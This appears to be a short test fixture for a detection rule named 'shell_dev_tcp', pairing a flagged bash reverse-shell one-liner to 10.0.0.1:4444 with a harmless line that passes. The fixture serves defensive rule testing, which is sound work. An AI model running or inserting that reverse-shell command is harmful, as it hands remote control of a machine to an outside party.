# ruleid: shell_dev_tcp
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
# ok: shell_dev_tcp
cat /dev/null > log.txt
